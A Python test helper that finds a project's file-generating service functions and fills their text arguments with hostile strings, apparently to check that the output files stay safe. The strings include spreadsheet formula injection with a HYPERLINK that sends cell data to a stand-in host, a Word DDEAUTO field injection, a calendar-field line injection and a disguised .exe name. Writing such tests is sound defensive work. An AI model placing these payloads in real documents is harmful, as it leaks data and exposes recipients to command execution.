"""Every function of the program that makes a file, found by itself, and hostile words to feed it with."""

import ast
import dataclasses
import enum
import importlib
import inspect
import itertools
import types
import typing
from collections.abc import Callable, Iterable, Mapping, Sequence
from datetime import UTC, date, datetime
from fractions import Fraction
from pathlib import Path
from typing import Any

from tests.house.plan import dotted, imported, modules

HOSTILE = (
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "\x00=1+1",
    "\x1f+7\x0b",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "#REF!",
    "$\\frac{$",
    "</w:t><w:instrText>DDEAUTO c:\\\\x</w:instrText>&",
    "x\r\nEND:VEVENT\r\nATTENDEE:mailto:a@example.org",
    "\x1b[2J\u202etxt.exe\u2028x",
)
FEW = 4
"""So many rows, pages or events are enough: each has several texts."""
LIBRARIES = {"openpyxl", "docx", "icalendar", "matplotlib", "csv", "segno"}
READERS = {
    "report_templates",
    "staff_package",
    "staff_weighing",
    "staff_sheets",
    "staff_days",
    "staff_headings",
    "table_lines",
    "questionnaire_tables",
}
"""Modules that know such a library only to read what people send."""
NO_PAPERS = {"key_of", "png"}
"""Bytes that are no file, or a picture somebody else draws."""


def makers() -> dict[str, Callable[..., bytes]]:
    """Public functions of services that give back bytes, by `module.name`."""
    found = {}
    for path, tree in modules("services").items():
        for node in tree.body:
            if isinstance(node, ast.FunctionDef) and node.returns is not None:
                is_public = not node.name.startswith("_") and node.name not in NO_PAPERS
                if is_public and ast.unparse(node.returns) == "bytes":
                    module = importlib.import_module(dotted(path))
                    found[f"{path.stem}.{node.name}"] = getattr(module, node.name)
    return found


def drawing_modules() -> set[str]:
    """Modules of services that import a library files are made with."""
    return {
        path.stem
        for path, tree in modules("services").items()
        if {name.split(".")[0] for name in imported(tree)} & LIBRARIES and path.stem not in READERS
    }


class Feeder:
    """Makes values of any annotated shape; every text in them is the next hostile one."""

    def __init__(self) -> None:
        self._words = itertools.cycle(HOSTILE)
        self.fed: list[str] = []
        self.ready: Mapping[type, Any] = PLAIN

    def arguments(self, maker: Callable[..., bytes]) -> dict[str, Any]:
        hints = typing.get_type_hints(maker)
        wanted = inspect.signature(maker).parameters.values()
        return {one.name: self.value(hints[one.name]) for one in wanted if one.default is inspect.Parameter.empty}

    def value(self, shape: Any) -> Any:  # one line a shape
        origin, inner = typing.get_origin(shape), typing.get_args(shape)
        if origin in {typing.Union, types.UnionType}:
            return self.value(
                next(one for one in (*[one for one in inner if one is str], *inner) if one is not type(None))
            )
        if origin is frozenset:
            return frozenset(self.value(inner[0]) for _ in HOSTILE)
        if origin is tuple and not (len(inner) == 2 and inner[1] is Ellipsis):
            return tuple(self.value(one) for one in inner)
        if origin in {list, tuple, Sequence, Iterable}:
            return [self.value(inner[0]) for _ in range(len(HOSTILE) if _is_text(inner[0]) else FEW)]
        if origin in {dict, Mapping}:
            return _Words(self, inner)
        if shape in self.ready:
            return self.ready[shape]
        if shape is str:
            self.fed.append(next(self._words))
            return self.fed[-1]
        if isinstance(shape, type) and issubclass(shape, enum.Enum):
            return next(iter(shape))
        if dataclasses.is_dataclass(shape):
            hints = typing.get_type_hints(shape)
            return shape(**{one.name: self.value(hints[one.name]) for one in dataclasses.fields(shape)})
        raise TypeError(f"say in the test what a {shape} with hostile words in it is")


def _is_text(shape: Any) -> bool:
    return shape is str or str in typing.get_args(shape)


PLAIN: Mapping[type, Any] = {
    int: 1,
    Fraction: Fraction(1, 2),
    float: 0.5,
    bool: True,
    datetime: datetime(2025, 10, 7, 9, tzinfo=UTC),
    date: date(2025, 10, 7),
    Path: Path("x"),
}


class _Words(dict[Any, Any]):
    """Words for any key at all; those of an enumeration are all there."""

    def __init__(self, feeder: Feeder, inner: tuple[Any, ...]) -> None:
        key, value = inner
        is_listed = isinstance(key, type) and issubclass(key, enum.Enum)
        super().__init__({one: feeder.value(value) for one in (key if is_listed else range(3))})
        self._feeder, self._value = feeder, value

    def __missing__(self, key: object) -> Any:
        self[key] = self._feeder.value(self._value)
        return self[key]
